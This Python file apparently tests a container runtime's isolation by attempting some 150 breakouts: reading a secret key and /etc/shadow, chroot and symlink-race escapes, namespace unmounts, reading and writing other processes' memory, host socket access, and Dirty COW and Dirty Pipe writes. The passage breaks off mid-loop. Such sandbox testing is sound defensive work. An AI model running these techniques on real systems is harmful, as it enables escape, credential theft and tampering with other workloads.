"""What a program in a container tries, to get at what is not its own: run there, it writes what it reached.

    python3 breakouts.py '{"state": "/srv/state", ...}'

Each attempt is a function that returns whether it got through, and runs in a
process of its own. An error of the kernel is an answer too: it did not get
through. The standard library is all that is imported.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import pty
import resource
import signal
import socket
import stat
import struct
import sys
from collections.abc import Callable
from typing import Any, TypedDict


class Given(TypedDict):
    """What there is to be reached, and where the program itself is."""

    state: str  # the state directory, with the cluster's secret key, and the inode that it has outside
    outside_inode: int
    attempt: str  # the directory of this container
    own: str  # its working directory
    home: str  # the home of the user who runs the cluster
    home_inode: int
    machine: str  # a directory of the machine that is neither the cluster's nor a home
    outside: int  # a process that is in no container
    other: str  # the directory of another pod
    other_pid: int
    other_port: int
    shared: str  # what that pod has in shared memory
    tmp_socket: str
    abstract: str  # a socket's name without a path
    ports: list[int]  # of the machine: at its loopback, at that of IPv6 and at its address
    address: str
    interfaces: list[str]
    terminal: str
    setuid: str  # a program that says who runs it
    tool: str  # a program that may only be executed


class At(Given):
    """That and what an attempt knows of itself."""

    shim: int  # the process that started the program
    pipe: tuple[int, int]  # by which the attempt answers


Attack = Callable[[At], bool]

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
BPF, ADD_KEY, KEYCTL, PERF_EVENT_OPEN = (321, 248, 250, 298) if X86 else (280, 217, 219, 241)
USERFAULTFD, OPEN_BY_HANDLE_AT, NAME_TO_HANDLE_AT = (323, 304, 303) if X86 else (282, 265, 264)
PROCESS_VM_READV, PROCESS_VM_WRITEV, PTRACE, KCMP = (310, 311, 101, 312) if X86 else (270, 271, 117, 272)
SYSLOG, QUOTACTL, KEXEC_LOAD, ACCT, PRCTL = (103, 179, 246, 163, 157) if X86 else (116, 60, 104, 89, 167)
TGKILL, ADJTIMEX = (234, 159) if X86 else (131, 171)
IO_URING_SETUP, PIDFD_GETFD, OPEN_TREE, FSOPEN, CLONE3 = 425, 438, 428, 430, 435  # the same on all
NEWUSER, NEWNS = 0x10000000, 0x00020000
AF_TIPC = 30
PTRACE_SEIZE, TIOCSTI = 0x4206, 0x5412
ATTACKS: dict[str, Attack] = {}


def attack(words: str) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[words] = function
        return function

    return add


def call(number: int, *arguments: Any) -> int:
    given = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result: int = libc.syscall(ctypes.c_long(number), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def checked(result: int) -> bool:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return True


def content(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


# Files.


@attack("read the cluster's secret key")
def read_secret(at: At) -> bool:
    return b"hush" in content(f"{at['state']}/secret-key")


@attack("list the state directory")
def list_state(at: At) -> bool:
    return "secret-key" in os.listdir(at["state"])


@attack("make a file in the state directory")
def write_state(at: At) -> bool:
    with open(f"{at['state']}/made", "w"):
        return at["outside_inode"] == os.stat(at["state"]).st_ino


@attack("truncate a file of the state directory")
def truncate_state(at: At) -> bool:
    os.truncate(f"{at['state']}/victim", 0)
    return True


@attack("change the mode of the state directory")
def chmod_state(at: At) -> bool:
    os.chmod(at["state"], 0o755)
    return at["outside_inode"] == os.stat(at["state"]).st_ino


@attack("change the mode of a file of the machine")
def chmod_file(at: At) -> bool:
    os.chmod(f"{at['machine']}/file", 0o666)
    return True


@attack("make a file of the machine a setuid program")
def make_setuid(at: At) -> bool:
    os.chmod(f"{at['machine']}/file", 0o4755)
    return bool(os.stat(f"{at['machine']}/file").st_mode & stat.S_ISUID)


@attack("give a file of the machine away")
def chown_file(at: At) -> bool:
    os.chown(f"{at['machine']}/file", 12345, -1)
    return os.stat(f"{at['machine']}/file").st_uid == 12345


@attack("give a file of the machine capabilities")
def setcap_file(at: At) -> bool:
    os.setxattr(f"{at['machine']}/file", "security.capability", struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))
    return True


@attack("set the times of a file of the machine")
def utime_file(at: At) -> bool:
    os.utime(f"{at['machine']}/file", (0, 0))
    return os.stat(f"{at['machine']}/file").st_mtime == 0


@attack("list a directory of the machine that is closed to others")
def list_private(at: At) -> bool:
    return os.listdir(f"{at['machine']}/private") == []


@attack("learn which directories the machine has")
def list_machine(at: At) -> bool:
    return "private" in os.listdir(at["machine"])


@attack("read the hashes of passwords")
def read_shadow(at: At) -> bool:
    return b":" in content("/etc/shadow")


@attack("open the kernel's memory (/proc/kcore)")
def kcore(at: At) -> bool:
    return bool(os.pread(os.open("/proc/kcore", os.O_RDONLY), 4, 0))


@attack("forge how its own container ended")
def forge(at: At) -> bool:
    with open(f"{at['attempt']}/forged", "w"):
        return True


@attack("read the secret key through a hard link")
def hard_link(at: At) -> bool:
    os.link(f"{at['state']}/secret-key", f"{at['own']}/link")
    return b"hush" in content(f"{at['own']}/link")


@attack("read the secret key through a symbolic link")
def symbolic_link(at: At) -> bool:
    os.symlink(at["state"], f"{at['own']}/symbolic")
    return b"hush" in content(f"{at['own']}/symbolic/secret-key")


@attack("read the secret key by `..` from a directory that is moved meanwhile")
def moved(at: At) -> bool:
    os.makedirs(f"{at['own']}/deep/er")
    folder = os.open(f"{at['own']}/deep/er", os.O_RDONLY)
    os.rename(f"{at['own']}/deep/er", f"{at['own']}/er")
    up = "/".join([".."] * 40)
    fd = os.open(f"{up}{at['state']}/secret-key", os.O_RDONLY, dir_fd=folder)
    return b"hush" in os.read(fd, 100)


@attack("read the secret key by /proc/self/root")
def own_root(at: At) -> bool:
    return b"hush" in content(f"/proc/self/root{at['state']}/secret-key")


@attack("read the secret key by the root directory of a process outside")
def outside_root(at: At) -> bool:
    return b"hush" in content(f"/proc/{at['outside']}/root{at['state']}/secret-key")


@attack("read the secret key by the working directory of a process outside")
def outside_cwd(at: At) -> bool:
    return b"hush" in content(f"/proc/{at['outside']}/cwd/secret-key")


@attack("read the secret key by a descriptor of a process outside")
def outside_descriptor(at: At) -> bool:
    folder = f"/proc/{at['outside']}/fd"
    for name in os.listdir(folder):
        with contextlib.suppress(OSError):
            if b"hush" in content(f"{folder}/{name}"):
                return True
    return False


@attack("read the secret key by a handle of its file")
def by_handle(at: At) -> bool:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = f"{at['state']}/secret-key".encode()
    call(NAME_TO_HANDLE_AT, -100, path, handle, ctypes.byref(mount), 0)
    mount_fd = os.open(at["own"], os.O_RDONLY)
    fd = call(OPEN_BY_HANDLE_AT, mount_fd, handle, os.O_RDONLY)
    return b"hush" in os.read(fd, 100)


@attack("read the secret key after leaving a chroot")
def leave_chroot(at: At) -> bool:
    os.mkdir(f"{at['own']}/cage")
    os.chroot(f"{at['own']}/cage")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return b"hush" in content(f"{at['state']}/secret-key")


@attack("read the secret key by the root directory of the first process that it sees")
def first_root(at: At) -> bool:
    return b"hush" in content(f"/proc/1/root{at['state']}/secret-key")


@attack("read the secret key by a link to a directory that it exchanges for another meanwhile")
def exchanged(at: At) -> bool:
    """What is opened is a name that changes between a harmless file and a link to the state directory."""
    harmless, name = f"{at['own']}/harmless", f"{at['own']}/exchanged"
    os.makedirs(harmless)
    for _ in range(20):
        os.symlink(harmless, name)
        os.unlink(name)
        os.symlink(at["state"], name)
        with contextlib.suppress(OSError):
            if b"hush" in content(f"{name}/secret-key"):
                return True
        os.unlink(name)
    return False


@attack("write over a program that it may only execute")
def write_program(at: At) -> bool:
    os.close(os.open(at["tool"], os.O_WRONLY))
    return True


@attack("learn what is made in the state directory (inotify)")
def watch_state(at: At) -> bool:
    checked(libc.inotify_add_watch(libc.inotify_init1(0), at["state"].encode(), 0x100))
    return at["outside_inode"] == os.stat(at["state"]).st_ino


@attack("read a file of another pod")
def other_work(at: At) -> bool:
    return b"private" in content(f"{at['other']}/work/file")


@attack("read a volume of another pod")
def other_volume(at: At) -> bool:
    return b"private" in content(f"{at['other']}/volume/file")


@attack("read what another pod has in shared memory")
def other_shared_memory(at: At) -> bool:
    return b"private" in content(at["shared"])


@attack("read a file below the user's home")
def home(at: At) -> bool:
    return b"private" in content(f"{at['home']}/file")


@attack("leave a file below the user's home")
def write_home(at: At) -> bool:
    with open(f"{at['home']}/made", "w"):
        return at["home_inode"] == os.stat(at["home"]).st_ino


@attack("use a descriptor that was left open")
def leaked(at: At) -> bool:
    expected = {0, 1, 2, *at["pipe"]}
    return any(fd not in expected and is_open(fd) for fd in map(int, os.listdir("/proc/self/fd")))


def is_open(fd: int) -> bool:
    try:
        os.fstat(fd)
    except OSError:  # the one by which the listing was read
        return False
    return True


# Processes and sockets.


@attack("read the environment of a process outside")
def environment(at: At) -> bool:
    return b"SECRET=hush" in content(f"/proc/{at['outside']}/environ")


@attack("read the environment of another pod")
def other_environment(at: At) -> bool:
    return b"SECRET=private" in content(f"/proc/{at['other_pid']}/environ")


@attack("see the command line of another pod")
def other_arguments(at: At) -> bool:
    return b"sleep" in content(f"/proc/{at['other_pid']}/cmdline")


@attack("send a signal to a process outside")
def signal_outside(at: At) -> bool:
    os.kill(at["outside"], 0)
    return True


@attack("send a signal to another pod")
def signal_other(at: At) -> bool:
    os.kill(at["other_pid"], 0)
    return True


@attack("send a signal to another pod by its descriptor")
def signal_by_descriptor(at: At) -> bool:
    signal.pidfd_send_signal(os.pidfd_open(at["other_pid"]), 0)
    return True


@attack("trace a process outside")
def trace(at: At) -> bool:
    return call(PTRACE, PTRACE_SEIZE, at["outside"], 0, 0) == 0


@attack("open the memory of a process outside")
def memory(at: At) -> bool:
    os.open(f"/proc/{at['outside']}/mem", os.O_RDONLY)
    return True


@attack("open the memory of its own shim")
def shim_memory(at: At) -> bool:
    os.open(f"/proc/{at['shim']}/mem", os.O_RDONLY)
    return True


@attack("copy the memory of a process outside")
def copy_memory(at: At) -> bool:
    with open(f"/proc/{at['outside']}/maps") as file:
        start = int(file.readline().partition("-")[0], 16)
    buffer = ctypes.create_string_buffer(8)
    ours = struct.pack("=QQ", ctypes.addressof(buffer), 8)
    return call(PROCESS_VM_READV, at["outside"], ours, 1, struct.pack("=QQ", start, 8), 1, 0) > 0


@attack("take a descriptor of a process outside")
def take_descriptor(at: At) -> bool:
    return call(PIDFD_GETFD, os.pidfd_open(at["outside"]), 0, 0) >= 0


@attack("open what a process outside has mapped")
def mapped(at: At) -> bool:
    return bool(os.listdir(f"/proc/{at['outside']}/map_files"))


@attack("compare descriptors with a process outside (kcmp)")
def compare(at: At) -> bool:
    return call(KCMP, os.getpid(), at["outside"], 2, 0, 0) >= 0


@attack("trace another pod")
def trace_other(at: At) -> bool:
    return call(PTRACE, PTRACE_SEIZE, at["other_pid"], 0, 0) == 0


@attack("write into the memory of another pod by its file")
def write_memory(at: At) -> bool:
    os.open(f"/proc/{at['other_pid']}/mem", os.O_WRONLY)
    return True


@attack("copy into the memory of another pod")
def copy_into(at: At) -> bool:
    with open(f"/proc/{at['other_pid']}/maps") as file:
        stack = next(line for line in file if "[stack]" in line)
    start = int(stack.partition("-")[0], 16)
    buffer = ctypes.create_string_buffer(8)
    ours = struct.pack("=QQ", ctypes.addressof(buffer), 8)
    return call(PROCESS_VM_WRITEV, at["other_pid"], ours, 1, struct.pack("=QQ", start, 8), 1, 0) > 0


@attack("take a descriptor of another pod")
def take_descriptor_of_other(at: At) -> bool:
    return call(PIDFD_GETFD, os.pidfd_open(at["other_pid"]), 0, 0) >= 0


@attack("limit another pod, so that the kernel ends it (prlimit)")
def limit_other(at: At) -> bool:
    now = resource.prlimit(at["other_pid"], resource.RLIMIT_CPU)
    resource.prlimit(at["other_pid"], resource.RLIMIT_CPU, now)
    return True


@attack("take a processor from another pod (sched_setaffinity)")
def bind_other(at: At) -> bool:
    os.sched_setaffinity(at["other_pid"], os.sched_getaffinity(at["other_pid"]))
    return True


@attack("slow another pod down (setpriority)")
def slow_other(at: At) -> bool:
    os.setpriority(os.PRIO_PROCESS, at["other_pid"], os.getpriority(os.PRIO_PROCESS, at["other_pid"]))
    return True


@attack("connect to a socket without a path")
def abstract(at: At) -> bool:
    with socket.socket(socket.AF_UNIX) as ours:
        ours.connect("\0" + at["abstract"])
    return True


@attack("connect to a socket in the state directory")
def state_socket(at: At) -> bool:
    with socket.socket(socket.AF_UNIX) as ours:
        ours.connect(f"{at['state']}/socket")
    return True


@attack("connect to a socket below the user's home")
def home_socket(at: At) -> bool:
    with socket.socket(socket.AF_UNIX) as ours:
        ours.connect(f"{at['home']}/socket")
    return True


@attack("connect to a socket of a service of the machine")
def service_socket(at: At) -> bool:
    with socket.socket(socket.AF_UNIX) as ours:
        ours.connect(f"{at['machine']}/socket")
    return True


@attack("connect to a socket in the machine's /tmp")
def tmp_socket(at: At) -> bool:
    with socket.socket(socket.AF_UNIX) as ours:
        ours.connect(at["tmp_socket"])
    return True


# The kernel. What it lets users do depends on its settings, whatever wall there is.

_BEFORE = frozenset(ATTACKS)


@attack("make a user namespace")
def user_namespace(at: At) -> bool:
    return checked(libc.unshare(NEWUSER))


@attack("make a user namespace from a thread")
def user_namespace_from_clone(at: At) -> bool:
    pid = call(56 if X86 else 220, NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@attack("make a user namespace by clone3, whose flags no filter sees")
def user_namespace_from_clone3(at: At) -> bool:
    pid = call(CLONE3, struct.pack("=QQQQQQQQ", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


@attack("take away what covers the state directory, in a user namespace of its own")
def uncover_as_root_of_a_namespace(at: At) -> bool:
    uid = os.getuid()
    checked(libc.unshare(NEWUSER))
    with open("/proc/self/uid_map", "w") as file:
        file.write(f"0 {uid} 1")
    checked(libc.unshare(NEWNS))
    checked(libc.umount2(at["state"].encode(), 2))
    return b"hush" in content(f"{at['state']}/secret-key")


@attack("make a mount namespace")
def mount_namespace(at: At) -> bool:
    return checked(libc.unshare(NEWNS))


@attack("mount something")
def mount(at: At) -> bool:
    return checked(libc.mount(b"none", at["own"].encode(), b"tmpfs", ctypes.c_ulong(0), None))


@attack("show the state directory at another path")
def bind(at: At) -> bool:
    checked(libc.mount(at["state"].encode(), at["own"].encode(), None, ctypes.c_ulong(4096), None))
    return os.path.exists(f"{at['own']}/secret-key")


@attack("take away what covers the state directory")
def uncover(at: At) -> bool:
    checked(libc.umount2(at["state"].encode(), 2))
    return True


@attack("show the state directory at another path, without mount()")
def open_tree(at: At) -> bool:
    return call(OPEN_TREE, -100, at["state"].encode(), 1 | 0x8000) >= 0  # a clone, recursive


@attack("make a file system, without mount()")
def fsopen(at: At) -> bool:
    return call(FSOPEN, b"tmpfs", 0) >= 0


@attack("join the mount namespace of a process outside by its descriptor")
def join_by_descriptor(at: At) -> bool:
    return checked(libc.setns(os.pidfd_open(at["outside"]), NEWNS))


@attack("join the mount namespace of a process outside")
def join(at: At) -> bool:
    fd = os.open(f"/proc/{at['outside']}/ns/mnt", os.O_RDONLY)
    return checked(libc.setns(fd, 0))


@attack("keep a key in the kernel's keyring")
def add_key(at: At) -> bool:
    return call(ADD_KEY, b"user", b"volcano", b"x", 1, -3) > 0


@attack("use the keyring of the user's session")
def keyring(at: At) -> bool:
    return call(KEYCTL, 0, -4, 1) > 0


@attack("load a program into the kernel (bpf)")
def bpf(at: At) -> bool:
    attributes = struct.pack("=IIII", 2, 4, 4, 1) + bytes(112)  # an array of one number
    return call(BPF, 0, attributes, len(attributes)) >= 0


@attack("count what processors do (perf_event_open)")
def perf(at: At) -> bool:
    attributes = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", 1, 128, 0, 0, 0, 0, 1 << 6) + bytes(128))
    return call(PERF_EVENT_OPEN, attributes, 0, -1, -1, 0) >= 0


@attack("handle page faults itself (userfaultfd)")
def userfaultfd(at: At) -> bool:
    return call(USERFAULTFD, 1) >= 0


@attack("make system calls through io_uring")
def io_uring(at: At) -> bool:
    return call(IO_URING_SETUP, 1, ctypes.create_string_buffer(120)) >= 0


@attack("type into its terminal (TIOCSTI)")
def type_in(at: At) -> bool:
    pid, fd = pty.fork()
    if pid == 0:
        try:
            fcntl.ioctl(0, TIOCSTI, b"x")
            os._exit(0)
        except OSError:
            os._exit(1)
    status = os.waitpid(pid, 0)[1]
    os.close(fd)
    return status == 0


@attack("gain root by a setuid program")
def setuid(at: At) -> bool:
    reader, writer = os.pipe()
    if os.fork() == 0:
        if os.getuid() == 0:
            os.setgroups([])
            os.setresuid(65534, 65534, 65534)
        os.dup2(writer, 1)
        os.execv(at["setuid"], [at["setuid"], "-u"])
    os.close(writer)
    return os.read(reader, 10).strip() == b"0"


@attack("make a device")
def device(at: At) -> bool:
    os.mknod(f"{at['own']}/device", stat.S_IFBLK | 0o600, os.makedev(7, 0))
    return True


@attack("open a device of the machine")
def open_device(at: At) -> bool:
    os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    return True


@attack("read the machine's disk")
def disk(at: At) -> bool:
    found = (path for pattern in ("[vs]d[a-z]", "nvme*n*", "dm-*", "loop*") for path in glob.glob(f"/dev/{pattern}"))
    return any(stat.S_ISBLK(os.stat(path).st_mode) and opens(path, os.O_RDONLY) for path in found)


@attack("read the machine's memory")
def machine_memory(at: At) -> bool:
    return any(opens(path, os.O_RDONLY) for path in ("/dev/mem", "/dev/port", "/proc/kcore"))


@attack("talk to what runs the machine (vsock)")
def vsock(at: At) -> bool:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM):
        return True


@attack("let the kernel calculate for it (AF_ALG)")
def alg(at: At) -> bool:
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET):
        return True


@attack("have the kernel load a protocol that nobody uses (AF_TIPC)")
def tipc(at: At) -> bool:
    with socket.socket(AF_TIPC, socket.SOCK_STREAM):
        return True


@attack("send and read whatever passes on the network (AF_PACKET)")
def packet(at: At) -> bool:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return True


@attack("connect to a port of the machine's loopback")
def machine_port(at: At) -> bool:
    socket.create_connection(("127.0.0.1", at["ports"][0]), 5).close()
    return True


@attack("connect to a port of the machine's loopback by IPv6")
def machine_port_6(at: At) -> bool:
    socket.create_connection(("::1", at["ports"][1]), 5).close()
    return True


@attack("connect to a port at another address of the machine")
def machine_address(at: At) -> bool:
    socket.create_connection((at["address"], at["ports"][2]), 5).close()
    return True


@attack("connect to a port of another pod")
def other_port(at: At) -> bool:
    socket.create_connection(("127.9.9.9", at["other_port"]), 5).close()
    return True


@attack("see which ports the machine listens at")
def sees_ports(at: At) -> bool:
    return f":{at['ports'][0]:04X} " in open("/proc/net/tcp").read()


@attack("see the machine's interfaces")
def sees_interfaces(at: At) -> bool:
    return len(socket.if_nameindex()) > 1 and [name for _, name in socket.if_nameindex()] == at["interfaces"]


@attack("take an interface down")
def interface_down(at: At) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
        fcntl.ioctl(ours, 0x8914, struct.pack("16sH", b"lo", 1))  # as it is
    return True


@attack("send raw packets")
def raw(at: At) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW):
        return True


@attack("read the kernel's log (syslog)")
def kernel_log(at: At) -> bool:
    return call(SYSLOG, 3, ctypes.create_string_buffer(100), 100) >= 0


@attack("ask for quotas of disks (quotactl)")
def quotactl(at: At) -> bool:
    return call(QUOTACTL, 0x800001 << 8, None, 0, None) >= 0  # write all of them to the disks


@attack("give up the kernel that would be started next (kexec_load)")
def kexec(at: At) -> bool:
    return call(KEXEC_LOAD, 0, 0, None, 0) >= 0


@attack("have processes counted, or not (acct)")
def acct(at: At) -> bool:
    return call(ACCT, None) >= 0


@attack("say that it is another program (PR_SET_MM)")
def set_mm(at: At) -> bool:
    return call(PRCTL, 35, 13, os.open(sys.executable, os.O_RDONLY), 0, 0) >= 0


@attack("restart the machine (sysrq)")
def sysrq(at: At) -> bool:
    return opens("/proc/sysrq-trigger", os.O_WRONLY)


@attack("say what runs files of a kind (binfmt_misc)")
def binfmt(at: At) -> bool:
    return opens("/proc/sys/fs/binfmt_misc/register", os.O_WRONLY)


@attack("change a setting of the kernel in /sys")
def setting_in_sys(at: At) -> bool:
    found = ("/sys/kernel/mm/ksm/run", "/sys/kernel/profiling", "/sys/kernel/mm/transparent_hugepage/enabled")
    return any(opens(path, os.O_WRONLY) for path in found)


@attack("say what runs when a control group is empty (release_agent)")
def release_agent(at: At) -> bool:
    return any(opens(path, os.O_WRONLY) for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True))


@attack("leave its control group")
def leave_group(at: At) -> bool:
    found = ["/sys/fs/cgroup/cgroup.procs", *glob.glob("/sys/fs/cgroup/*/cgroup.procs")]
    return any(opens(path, os.O_WRONLY) for path in found)


def opens(path: str, flags: int) -> bool:
    try:
        os.close(os.open(path, flags | os.O_NONBLOCK))
    except OSError:
        return False
    return True


@attack("open another terminal of the user")
def other_terminal(at: At) -> bool:
    os.open(at["terminal"], os.O_RDWR | os.O_NOCTTY)
    return True


@attack("change a setting of the kernel")
def setting(at: At) -> bool:
    os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
    return True


# Files by which a machine is set, listened to or taken over: opened, and not touched.

MACHINE = {
    "its console": "/dev/console",
    "its screen": "/dev/vcs",
    "its first terminal": "/dev/tty0",
    "its memory bus (/dev/port)": "/dev/port",
    "virtual machines (/dev/kvm)": "/dev/kvm",
    "file systems of its own (/dev/fuse)": "/dev/fuse",
    "network interfaces (/dev/net/tun)": "/dev/net/tun",
    "loop devices": "/dev/loop-control",
    "mapped disks": "/dev/mapper/control",
    "keys that are pressed (/dev/uinput)": "/dev/uinput",
    "processors' registers": "/dev/cpu/0/msr",
    "its clock": "/dev/rtc0",
    "its watchdog": "/dev/watchdog",
    "its hypervisor": "/dev/vsock",
    "its log of the kernel": "/dev/kmsg",
    "what runs when a module is missing": "/proc/sys/kernel/modprobe",
    "what runs for an event (uevent_helper)": "/sys/kernel/uevent_helper",
    "which processor takes an interrupt": "/proc/irq/default_smp_affinity",
    "its PCI bus": "/proc/bus/pci/00/00.0",
    "how it sleeps": "/sys/power/state",
    "its processors (online)": "/sys/devices/system/cpu/cpu1/online",
    "its modules' parameters": "/sys/module/printk/parameters/time",
    "how it forwards packets": "/proc/sys/net/ipv4/ip_forward",
    "how many processes there may be": "/proc/sys/kernel/pid_max",
    "whether memory may be promised twice": "/proc/sys/vm/overcommit_memory",
}
FORBIDDEN = {
    "the kernel's debugging files": "/sys/kernel/debug",
    "the kernel's traces": "/sys/kernel/tracing",
    "programs that were loaded into the kernel": "/sys/fs/bpf",
    "firmware variables": "/sys/firmware/efi/efivars",
    "control groups of others": "/sys/fs/cgroup/system.slice",
    "the first process's files": "/proc/1/fd",
    "the first process's root": "/proc/1/root",
    "the first process's directory": "/proc/1/cwd",
    "root's home": "/root/.ssh",
    "homes": "/home/root",
    "what services keep": "/var/lib/dpkg",
    "logs of the machine": "/var/log/apt",
    "sockets of services": "/run/lock",
    "the machine's temporary files": "/var/tmp/systemd-private",
}


def _opens(path: str) -> Attack:
    return lambda at: opens(path, os.O_WRONLY)


def _lists(path: str) -> Attack:
    # Where the engine has no process before the program, the first one is the program itself.
    return lambda at: not (os.getppid() == 1 and path.startswith("/proc/1/")) and bool(os.listdir(path))


for _words, _path in MACHINE.items():
    attack(f"have a hand in {_words}")(_opens(_path))
for _words, _path in FORBIDDEN.items():
    attack(f"look into {_words}")(_lists(_path))


# More of what runtimes have let through.


@attack("write over the program of its first process")
def overwrite_init(at: At) -> bool:
    return opens("/proc/1/exe", os.O_WRONLY)


@attack("reach a directory of the machine by a descriptor that it has inherited")
def inherited_directory(at: At) -> bool:
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            if stat.S_ISDIR(os.fstat(fd).st_mode):
                return True
    return False


@attack("climb out of its root by a second one")
def second_chroot(at: At) -> bool:
    os.makedirs(f"{at['own']}/inner", exist_ok=True)
    folder = os.open("/", os.O_RDONLY)
    os.chroot(f"{at['own']}/inner")
    os.fchdir(folder)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists(at["machine"])


@attack("make the machine's programs writable (remount)")
def remount(at: At) -> bool:
    return checked(libc.mount(b"none", b"/usr", None, ctypes.c_ulong(32 | 4096), None))


@attack("take away what covers the kernel's settings")
def uncover_settings(at: At) -> bool:
    return checked(libc.umount2(b"/proc/sys", 2))


@attack("let mounts of the machine come in (propagation)")
def propagate(at: At) -> bool:
    return checked(libc.mount(b"none", b"/", None, ctypes.c_ulong(1 << 19 | 16384), None))


@attack("write to a file that it may only read, by its mapping (Dirty COW)")
def dirty_cow(at: At) -> bool:
    before = content(at["tool"])
    with open(at["tool"], "rb") as file:
        size = os.fstat(file.fileno()).st_size
        address = libc.mmap(None, ctypes.c_size_t(size), 1, 2, file.fileno(), 0)
        with contextlib.suppress(OSError), open("/proc/self/mem", "r+b", 0) as memory:
            memory.seek(address & ((1 << 64) - 1))
            memory.write(b"X")
    return content(at["tool"]) != before


@attack("write to a file that it may only read, by a pipe (Dirty Pipe)")
def dirty_pipe(at: At) -> bool:
    before = content(at["tool"])
    reader, writer = os.pipe()
    fcntl.fcntl(writer, 1031, 1 << 16)
    os.write(writer, b"x" * (1 << 16))
    os.read(reader, 1 << 16)
    with open(at["tool"], "rb") as file:
        os.splice(file.fileno(), writer, 1, offset_src=0)
    os.write(writer, b"X")
    return content(at["tool"]) != before


@attack("make a file that nobody can remove")
def immutable(at: At) -> bool:
    fd = os.open(f"{at['own']}/immutable", os.O_CREAT | os.O_RDONLY)
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10))
    return True


@attack("keep others from a file of the machine (lease)")
def lease(at: At) -> bool:
    return fcntl.fcntl(os.open("/etc/passwd", os.O_RDONLY), 1024, fcntl.F_RDLCK) == 0


@attack("call the kernel by the numbers of 32-bit programs")
def thirty_two_bits(at: At) -> bool:
    if not X86:
        return False
    import mmap

    code = mmap.mmap(-1, 4096, prot=7)
    # mov eax, 21 (mount); xor ebx, ecx, edx, esi, edi; int 0x80; ret
    code.write(bytes.fromhex("5389f8b81500000031db31c931d231f631ffcd805bc3"))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return function() not in (-1, -38)  # not refused, nor unknown: the kernel has looked at the arguments


@attack("call the kernel by the numbers of programs with short pointers (x32)")
def short_pointers(at: At) -> bool:
    return X86 and call(0x40000000 | 39) > 0


@attack("have a program signal another pod by its socket (F_SETOWN)")
def set_owner(at: At) -> bool:
    ours, _ = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, at["other_pid"])
    return fcntl.fcntl(ours, fcntl.F_GETOWN) == at["other_pid"]


@attack("signal a thread of another pod (tgkill)")
def thread_signal(at: At) -> bool:
    return call(TGKILL, at["other_pid"], at["other_pid"], 0) == 0


@attack("have a descriptor of another pod's process (pidfd_open)")
def pidfd(at: At) -> bool:
    return os.pidfd_open(at["other_pid"]) >= 0


@attack("run before all others (real-time priority)")
def real_time(at: At) -> bool:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return True


@attack("run before others (negative nice)")
def nice(at: At) -> bool:
    return os.nice(-1) < 0


@attack("be spared when memory runs out")
def oom(at: At) -> bool:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-900")
    return True


@attack("have more files open than it may")
def more_files(at: At) -> bool:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    return True


@attack("leave a picture of its memory (core)")
def core(at: At) -> bool:
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    return True


@attack("have capabilities back (ambient)")
def ambient(at: At) -> bool:
    return call(PRCTL, 47, 2, 21, 0, 0) == 0  # CAP_SYS_ADMIN


@attack("have new privileges back")
def new_privileges(at: At) -> bool:
    return call(PRCTL, 38, 0, 0, 0, 0) == 0


@attack("name the machine")
def host_name(at: At) -> bool:
    socket.sethostname(socket.gethostname())
    return True


@attack("say what time it is (adjtimex)")
def clock(at: At) -> bool:
    return call(ADJTIMEX, struct.pack("I204x", 0x4000)) >= 0


@attack("write the users of its namespace anew")
def users_anew(at: At) -> bool:
    with open("/proc/self/uid_map", "w") as file:
        file.write("0 0 1")
    return True


@attack("join groups that own disks")
def disk_group(at: At) -> bool:
    os.setgroups([6])
    return any(opens(path, os.O_RDONLY) for path in glob.glob("/dev/[sv]d?"))


def _asks(protocol: int) -> Attack:
    return lambda at: bool(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol))


def _connects(path: str) -> Attack:
    def connects(at: At) -> bool:
        socket.socket(socket.AF_UNIX).connect(path)
        return True

    return connects


for _number, _words in {
    4: "connections (sock_diag)", 6: "tunnels (xfrm)", 9: "audits", 11: "processes (connector)", 12: "filters (nf_tables)",
    15: "devices (uevents)", 16: "everything else (generic)",
}.items():  # fmt: skip
    attack(f"ask the kernel about {_words}")(_asks(_number))

for _path in (
    "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock",
    "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/stdout", "/run/udev/control",
    "/var/lib/incus/unix.socket", "/var/snap/lxd/common/lxd/unix.socket", "/tmp/.X11-unix/X0",
):  # fmt: skip
